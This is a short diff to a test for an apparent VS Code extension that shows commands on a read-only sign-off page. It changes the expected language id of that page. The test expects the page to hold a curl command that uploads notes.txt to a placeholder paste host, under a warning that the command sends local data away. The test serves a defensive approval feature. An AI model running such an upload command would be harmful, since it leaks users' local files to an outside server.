@@ -65,7 +65,7 @@ test('a request is shown as a read-only page of plain text, and closing the page
   const input = signOffTab()?.input;
   assert.ok(input instanceof vscode.TabInputText);
   const document = await vscode.workspace.openTextDocument(input.uri);
-  assert.equal(document.languageId, 'plaintext');
+  assert.equal(document.languageId, 'gatehouse-page');
   assert.match(document.getText().trim(), /^This command sends local data to another machine\.\n/);
   assert.match(document.getText(), /curl -T notes\.txt https:\/\/paste\.invalid\/upload/);
   const tab = signOffTab();
